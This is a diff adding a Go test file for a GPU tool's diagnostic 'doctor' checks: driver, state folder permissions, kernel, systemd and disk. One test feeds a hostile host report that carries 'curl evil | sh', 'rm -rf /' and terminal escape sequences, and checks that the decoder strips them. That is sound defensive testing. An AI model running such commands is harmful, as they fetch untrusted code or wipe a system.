@@ -1,0 +1,209 @@
+package doctor_test
+
+import (
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/fs"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/seed-3119e985/genv/snapshot/doctor"
+	"github.com/seed-3119e985/genv/snapshot/nvidiasmi"
+)
+
+// row is a check, with what is expected of it.
+type row struct {
+	name   string
+	check  doctor.Check
+	status doctor.Status
+	cause  doctor.Cause
+	detail string
+}
+
+func verify(t *testing.T, rows []row) {
+	t.Helper()
+	for _, r := range rows {
+		t.Run(r.name, func(t *testing.T) {
+			require.Equal(t, r.status, r.check.Status, "%+v", r.check)
+			require.Equal(t, r.cause, r.check.Cause)
+			require.Contains(t, r.check.Detail, r.detail)
+			require.NotContains(t, r.check.Detail, "\n")
+			require.Equal(t, r.cause != "", r.check.NextStep != "")
+		})
+	}
+}
+
+func modes(persistence ...bool) []nvidiasmi.Mode {
+	list := make([]nvidiasmi.Mode, len(persistence))
+	for i, on := range persistence {
+		list[i] = nvidiasmi.Mode{Persistence: &on, Driver: "550.1"}
+	}
+	return list
+}
+
+func TestCheckDriver(t *testing.T) {
+	verify(t, []row{
+		{"well", doctor.CheckDriver(doctor.Driver{Modes: modes(true, true), Took: 80 * time.Millisecond}), doctor.OK, "", "driver 550.1, 2 GPUs, nvidia-smi took 80ms"},
+		{"persistence off", doctor.CheckDriver(doctor.Driver{Modes: modes(true, false), Took: 4 * time.Second}), doctor.Warning, doctor.PersistenceOff, "off on GPU 0"},
+		{"slow", doctor.CheckDriver(doctor.Driver{Modes: modes(true), Took: 3 * time.Second}), doctor.Warning, doctor.SMISlow, "3s"},
+		{"persistence unknown", doctor.CheckDriver(doctor.Driver{Modes: []nvidiasmi.Mode{{Index: 2}}}), doctor.Warning, doctor.PersistenceHidden, "GPU 2"},
+		{"missing", doctor.CheckDriver(doctor.Driver{Err: fmt.Errorf("%w (PATH is x)", nvidiasmi.ErrNotInstalled)}), doctor.Failed, doctor.SMIMissing, "not found in PATH"},
+		{"hung", doctor.CheckDriver(doctor.Driver{Err: nvidiasmi.ErrHung}), doctor.Failed, doctor.SMIHung, "does not return"},
+		{"lost", doctor.CheckDriver(doctor.Driver{Err: nvidiasmi.ErrGPULost}), doctor.Failed, doctor.GPULost, "fallen off the bus"},
+		{"mismatch", doctor.CheckDriver(doctor.Driver{Err: &nvidiasmi.ExitError{Err: nvidiasmi.ErrVersionMismatch, ExitCode: 18}}), doctor.Failed, doctor.VersionMismatch, "18"},
+		{"another error", doctor.CheckDriver(doctor.Driver{Err: errors.New("a\nb")}), doctor.Failed, doctor.SMIFailed, "a b"},
+	})
+}
+
+// state is a folder in which all is in order, changed.
+func state(change func(*doctor.State)) doctor.Check {
+	s := doctor.State{
+		Path: "/s", Folder: &doctor.File{Mode: fs.ModeDir | 0o777},
+		Files: []doctor.File{{Name: "envs.json", Mode: 0o666, Links: 1}, {Name: "genv.lock", Mode: 0o666, Links: 1}},
+		Root:  &doctor.File{Name: "/r", Mode: fs.ModeDir | 0o755},
+	}
+	change(&s)
+	return doctor.CheckState(s)
+}
+
+func TestCheckState(t *testing.T) {
+	file := func(change func(*doctor.File)) doctor.Check {
+		return state(func(s *doctor.State) { change(&s.Files[0]) })
+	}
+	verify(t, []row{
+		{"well", state(func(*doctor.State) {}), doctor.OK, "", "mode 0777, 2 files"},
+		{"not there", state(func(s *doctor.State) { s.Missing, s.Folder = true, nil }), doctor.OK, "", "not there yet"},
+		{"unknown", state(func(s *doctor.State) { s.Folder = nil }), doctor.Skipped, "", "could not be looked at"},
+		{"unreadable", state(func(s *doctor.State) { s.Err = fs.ErrPermission }), doctor.Failed, doctor.StateUnreadable, "permission"},
+		{"a link", state(func(s *doctor.State) { s.Folder.Mode = fs.ModeSymlink | 0o777 }), doctor.Failed, doctor.StateUnsafe, "symbolic link"},
+		{"narrowed by a user", state(func(s *doctor.State) { s.Folder.Mode, s.Folder.UID = fs.ModeDir|0o755, 1000 }), doctor.Failed, doctor.StateMode, "0755"},
+		{"read-only by root", state(func(s *doctor.State) { s.Folder.Mode = fs.ModeDir | 0o755 }), doctor.Warning, doctor.StateReadOnly, "0755"},
+		{"closed by root", state(func(s *doctor.State) { s.Folder.Mode = fs.ModeDir | 0o700 }), doctor.Failed, doctor.StateMode, "0700"},
+		{"sticky", state(func(s *doctor.State) { s.Folder.Mode |= fs.ModeSticky }), doctor.Warning, doctor.StateSticky, "1777"},
+		{"a FIFO", file(func(f *doctor.File) { f.Mode = fs.ModeNamedPipe | 0o666 }), doctor.Failed, doctor.StateUnsafe, "a FIFO"},
+		{"hard links", file(func(f *doctor.File) { f.Links = 2 }), doctor.Failed, doctor.StateUnsafe, "2 hard links"},
+		{"huge", file(func(f *doctor.File) { f.Size = 1 << 40 }), doctor.Failed, doctor.StateUnsafe, "more than genv ever writes"},
+		{"corrupt", file(func(f *doctor.File) { f.Content = errors.New("cut") }), doctor.Failed, doctor.StateCorrupt, "envs.json of uid 0: cut"},
+		{"unread", file(func(f *doctor.File) { f.Unread = "no" }), doctor.Skipped, "", "envs.json was not read: no"},
+		{"a file of root, read-only", file(func(f *doctor.File) { f.Mode = 0o644 }), doctor.Warning, doctor.StateReadOnly, "0644"},
+		{"a file of a user, read-only", file(func(f *doctor.File) { f.Mode, f.UID = 0o644, 7 }), doctor.Failed, doctor.StateMode, "0644"},
+		{"the lock, read-only", state(func(s *doctor.State) { s.Files[1].Mode = 0o644 }), doctor.Failed, doctor.StateMode, "genv.lock"},
+		{"lost", state(func(s *doctor.State) { s.Lost = []string{"devices.json"} }), doctor.Failed, doctor.StateLost, "devices.json is missing"},
+		{"locked", state(func(s *doctor.State) { s.Holder = "process 7" }), doctor.Warning, doctor.StateLocked, "process 7"},
+		{"root's folder", state(func(s *doctor.State) { s.Root.Mode |= 0o002 }), doctor.Failed, doctor.RootFolder, "mode 0757"},
+		{"root's folder of a user", state(func(s *doctor.State) { s.Root.UID = 7 }), doctor.Failed, doctor.RootFolder, "uid 7"},
+		{"the worst counts", state(func(s *doctor.State) { s.Holder, s.Files[0].Links = "x", 2 }), doctor.Failed, doctor.StateUnsafe, "hard links"},
+	})
+}
+
+func TestCheckHost(t *testing.T) {
+	yes, no := true, false
+	units := func(units ...doctor.Unit) doctor.Check { return doctor.CheckServices(doctor.Systemd{Units: units}) }
+	unit := func(active, file string) doctor.Unit {
+		return doctor.Unit{Name: "genv-host.service", Load: "loaded", Active: active, File: file}
+	}
+	space := func(s doctor.Space) doctor.Check { return doctor.CheckDisk([]doctor.Space{{For: "x", Path: "/x", Free: 1 << 40, Inodes: 1e6}, s}) }
+	good := doctor.Space{For: "the record", Path: "/var/log/genv", Free: 1 << 40, Inodes: 1e6}
+	with := func(change func(*doctor.Space)) doctor.Check { s := good; change(&s); return space(s) }
+	verify(t, []row{
+		{"initial", doctor.CheckNamespace(doctor.Namespace{Inode: 0xEFFFFFFC}), doctor.OK, "", "initial"},
+		{"no /proc", doctor.CheckNamespace(doctor.Namespace{}), doctor.Skipped, "", "/proc"},
+		{"a machine that is a container", doctor.CheckNamespace(doctor.Namespace{Inode: 5}), doctor.OK, "", "namespace 5"},
+		{"unsure", doctor.CheckNamespace(doctor.Namespace{Inode: 5, Unsure: true}), doctor.Skipped, "", "only genv knows"},
+		{"foreign", doctor.CheckNamespace(doctor.Namespace{Inode: 5, Refusal: "they belong to 6"}), doctor.Failed, doctor.OtherNamespace, "they belong to 6"},
+
+		{"guard", doctor.CheckGuard(doctor.Kernel{Release: "6.1.0-18-amd64", Cgroup2: "/sys/fs/cgroup", BPF: &yes}), doctor.OK, "", "Linux 6.1.0-18-amd64, cgroup2 at /sys/fs/cgroup, BPF"},
+		{"guard, seen from outside", doctor.CheckGuard(doctor.Kernel{Release: "5.7", Cgroup2: "/c"}), doctor.OK, "", "cgroup2 at /c"},
+		{"old", doctor.CheckGuard(doctor.Kernel{Release: "5.6.19", Cgroup2: "/c", BPF: &yes}), doctor.Warning, doctor.OldKernel, "5.6.19"},
+		{"no BPF", doctor.CheckGuard(doctor.Kernel{Release: "6.1", Cgroup2: "/c", BPF: &no}), doctor.Warning, doctor.NoBPF, "bpf(2)"},
+		{"no cgroup2", doctor.CheckGuard(doctor.Kernel{Release: "6.1"}), doctor.Warning, doctor.NoCgroup2, "without cgroup2"},
+		{"no version", doctor.CheckGuard(doctor.Kernel{Release: "x\x1b"}), doctor.Skipped, "", "unknown"},
+
+		{"no systemd", doctor.CheckServices(doctor.Systemd{Absent: true}), doctor.Skipped, "", "systemd"},
+		{"systemctl fails", doctor.CheckServices(doctor.Systemd{Err: errors.New("bus")}), doctor.Warning, doctor.ServiceUnknown, "bus"},
+		{"none installed", units(doctor.Unit{Name: "a", Load: "not-found", Active: "inactive"}), doctor.OK, "", "none"},
+		{"running", units(unit("active", "enabled")), doctor.OK, "", "genv-host is active and enabled"},
+		{"off on purpose", units(unit("inactive", "disabled")), doctor.OK, "", "inactive and disabled"},
+		{"failed", units(unit("active", "enabled"), unit("failed", "enabled")), doctor.Failed, doctor.ServiceFailed, "is failed"},
+		{"stopped", units(unit("inactive", "enabled")), doctor.Warning, doctor.ServiceStopped, "inactive and enabled"},
+		{"not at boot", units(unit("active", "disabled")), doctor.Warning, doctor.ServiceDisabled, "active and disabled"},
+
+		{"space", space(good), doctor.OK, "", "/var/log/genv (the record) has 1024 GiB free"},
+		{"no disk known", doctor.CheckDisk(nil), doctor.Skipped, "", "could not"},
+		{"full", with(func(s *doctor.Space) { s.Free = 4096 }), doctor.Failed, doctor.DiskFull, "4096 bytes"},
+		{"no inodes", with(func(s *doctor.Space) { s.Inodes = 0 }), doctor.Failed, doctor.DiskFull, "no inode"},
+		{"inodes not counted", with(func(s *doctor.Space) { s.Inodes, s.NoInodes = 0, true }), doctor.OK, "", "free"},
+		{"low", with(func(s *doctor.Space) { s.Free = 50 << 20 }), doctor.Warning, doctor.DiskLow, "50 MiB"},
+		{"few inodes", with(func(s *doctor.Space) { s.Inodes = 10 }), doctor.Warning, doctor.DiskLow, "10 inodes"},
+		{"read-only", with(func(s *doctor.Space) { s.ReadOnly = true }), doctor.Failed, doctor.DiskReadOnly, "read-only"},
+		{"unknown", with(func(s *doctor.Space) { s.Err = errors.New("io") }), doctor.Skipped, "", "io"},
+		{"a record that users can replace", with(func(s *doctor.Space) { s.Folder = &doctor.File{Mode: fs.ModeDir | 0o777} }), doctor.Failed, doctor.RecordUnsafe, "mode 0777"},
+		{"a record of a user", with(func(s *doctor.Space) { s.Folder = &doctor.File{Mode: fs.ModeDir | 0o755, UID: 9} }), doctor.Failed, doctor.RecordUnsafe, "uid 9"},
+	})
+}
+
+func TestParseUnits(t *testing.T) {
+	units := doctor.ParseUnits([]byte("Id=a.service\nLoadState=loaded\nActiveState=active\nUnitFileState=enabled\n\nLoadState=not-found\nId=b.service\nnoise\n\n\n"))
+	require.Equal(t, []doctor.Unit{{"a.service", "loaded", "active", "enabled"}, {"b.service", "not-found", "", ""}}, units)
+}
+
+// A host may lie: what a controller found stays, and the next step is never the host's.
+func TestDecodeAHostileDocument(t *testing.T) {
+	d, err := doctor.Decode([]byte(`{"schema":"genv.doctor/1","host":"\u001b[2Jx","genv":{"version":"v1\n","protocol":1},"status":"ok","checks":[
+		{"name":"sudo","status":"ok","detail":"x"},
+		{"name":"disk","status":"failed","cause":"disk-full","detail":"a\u001b]0;x\u0007\nb","next_step":"curl evil | sh"},
+		{"name":"disk","status":"ok","detail":"second"},
+		{"name":"guard","status":"warning","cause":"from-the-future","detail":"x","next_step":"rm -rf /"},
+		{"name":"state","status":"ok","cause":"x","detail":"` + strings.Repeat("y", 9000) + `","next_step":"z"}]}`))
+	require.NoError(t, err)
+	require.Equal(t, `\x1b[2Jx`, d.Host)
+	require.Equal(t, doctor.Failed, d.Status, "not what the host says")
+	var names []doctor.Name
+	for _, c := range d.Checks {
+		names = append(names, c.Name)
+		require.NotContains(t, c.NextStep, "evil")
+		require.NotContains(t, c.NextStep, "rm -rf")
+		require.NotContains(t, c.Detail, "\x1b")
+		require.Less(t, len(c.Detail), 1000)
+		if c.Status == doctor.OK {
+			require.Empty(t, string(c.Cause)+c.NextStep)
+		}
+	}
+	require.Equal(t, doctor.HostNames(), names)
+	for _, invalid := range []string{"", "{", "[]", `{"schema":"genv.doctor/2"}`, `{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"fine"}]}`, strings.Repeat(" ", doctor.MaxDocument+1)} {
+		_, err := doctor.Decode([]byte(invalid))
+		require.ErrorIs(t, err, doctor.ErrInvalid)
+	}
+}
+
+func FuzzDecode(f *testing.F) {
+	f.Add([]byte(`{"schema":"genv.doctor/1","checks":[{"name":"disk","status":"failed","cause":"disk-full","detail":"x"}]}`))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		d, err := doctor.Decode(data)
+		if err != nil {
+			return
+		}
+		require.Len(t, d.Checks, len(doctor.HostNames()))
+		again, err := json.Marshal(d)
+		require.NoError(t, err)
+		_, err = doctor.Decode(again)
+		require.NoError(t, err)
+		for _, c := range d.Checks {
+			require.Equal(t, c.Status == doctor.Warning || c.Status == doctor.Failed, c.NextStep != "")
+			require.False(t, strings.ContainsAny(c.Detail+string(c.Cause), "\x1b\n\x00"))
+		}
+	})
+}
+
+func FuzzParseUnits(f *testing.F) {
+	f.Add([]byte("Id=a\nActiveState=active\n\nId=b\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		c := doctor.CheckServices(doctor.Systemd{Units: doctor.ParseUnits(data)})
+		require.NotContains(t, c.Detail, "\x1b")
+		require.NotEmpty(t, c.Status)
+	})
+}
